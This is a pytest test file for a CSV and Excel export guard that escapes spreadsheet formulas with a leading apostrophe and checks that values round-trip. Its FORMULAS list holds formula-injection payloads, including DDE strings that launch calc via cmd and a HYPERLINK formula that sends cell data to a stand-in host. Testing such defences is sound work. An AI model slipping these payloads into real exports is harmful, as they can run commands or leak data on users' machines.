"""No cell of a CSV is a formula to a spreadsheet, and what we wrote we read back as it was."""

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest

from geo.files import encoding, excel
from geo.files.guards import guard, guard_frame, unguard, unguard_frame, write_csv
from geo.text import unguarded

ROOT = Path(__file__).parents[3]
FORMULAS = [
    '=HYPERLINK("http://x.invalid/"&A1,"a")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    " =1",
    "\n=1",
    "\u200b=1",
    "\ufeff=1",
    "\u202e=1",
    "\u00a0\u3000=1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "-",
    "--",
    "-it's",
    "+86-477-6621234",
    "-5.2-1",
    "=",
    "\t",
]
PLAIN = [
    "金鼎小区", "Ａ区",
    "-5.2", "+8", "-1e-07", "-.5", "+1,234.50", "-5%", "1=1", "a-b", "a@b.cn", "",
    " 3-1", "'quoted'", "'", "POINT (-71.05 42.36)", "é", "ゲ", "…", "«=»", "Ω-3",
]  # fmt: skip


def test_each_formula_gets_one_apostrophe_and_nothing_else_does() -> None:
    cells = pa.array([*FORMULAS, None, *PLAIN], pa.large_string())
    guarded = guard(cells)
    assert guarded.to_pylist() == [*(f"'{each}" for each in FORMULAS), None, *PLAIN]
    assert guard(guarded).to_pylist() == guarded.to_pylist()
    assert unguard(guarded).to_pylist() == cells.to_pylist()
    # A part of a longer array is read by its own offsets.
    assert guard(cells[3:9]).to_pylist() == guarded[3:9].to_pylist()


def test_loads_take_the_guard_off_too() -> None:
    for each in FORMULAS:
        assert unguarded(f"'{each}") == each.strip()


def test_frames_are_guarded_in_texts_and_headings_and_read_back_alike(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "name": FORMULAS,
            "=rate": range(len(FORMULAS)),
            "east": -5.25,
            "mixed": ["=1", 2, None, -3.5, *FORMULAS[4:]],
            "kind": pd.Categorical(FORMULAS),
        }
    )
    guarded = guard_frame(frame)
    assert list(guarded.columns) == ["name", "'=rate", "east", "mixed", "kind"]
    assert guarded["mixed"].tolist()[:4] == ["'=1", 2, None, -3.5]
    assert frame["name"].tolist() == FORMULAS, "the caller's frame is left alone"
    out = tmp_path / "names.csv"
    write_csv(frame, out)
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    assert {row[2] for row in rows[1:]} == {"-5.25"}
    assert [row[0] for row in rows[1:]] == [f"'{each}" for each in FORMULAS]
    read = pd.DataFrame(rows[1:], columns=rows[0])
    back = unguard_frame(read)
    assert back["name"].tolist() == back["kind"].tolist() == FORMULAS
    assert back["=rate"].tolist() == [str(at) for at in range(len(FORMULAS))]


@pytest.mark.parametrize("separator", [",", "\t"])
def test_rows_and_headings_of_answers_are_guarded(separator: str) -> None:
    table = pa.table(
        {
            "@name": FORMULAS,
            "chosen": pa.array(FORMULAS).dictionary_encode(),
            "x": pa.array([-1.5] * len(FORMULAS)),
        }
    )
    written = encoding.csv_head(table.column_names, separator).decode()
    written += bytes(encoding.csv_rows(table, separator)).decode()
    head, *rows = csv.reader(io.StringIO(written, newline=""), delimiter=separator)
    assert head == ["'@name", "chosen", "x"]
    assert rows == [[f"'{each}", f"'{each}", "-1.5"] for each in FORMULAS]


def test_a_workbook_stores_text_and_headings_as_text(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / "names.xlsx"
    texts = [each for each in FORMULAS if each.isprintable()] + ["=\x0b"]
    with excel.writer(out, out, sheet="x") as append:
        append(pa.table({"=1+1": texts}))
    sheet = openpyxl.load_workbook(out).active
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s"}
    assert [row[0] for row in sheet.iter_rows(values_only=True)] == ["=1+1", *texts[:-1], "=\ufffd"]


# The database's own protocol, one line that was read, and files of the demo, whose names are ours.
INWARD = {"geo/db/copy.py", "geo/files/delimited.py", "geo/synthetic/files.py"}


def test_no_other_module_writes_separated_text() -> None:
    writing = re.compile(r"\.to_csv\(|write_csv\(\s*pa\.|csv\.writer\(|DictWriter")
    found = {
        path.relative_to(ROOT).as_posix()
        for folder in ("api", "geo", "layers")
        for path in (ROOT / folder).rglob("*.py")
        if writing.search(path.read_text(encoding="utf-8"))
    }
    assert found == {"geo/files/guards.py", *INWARD}
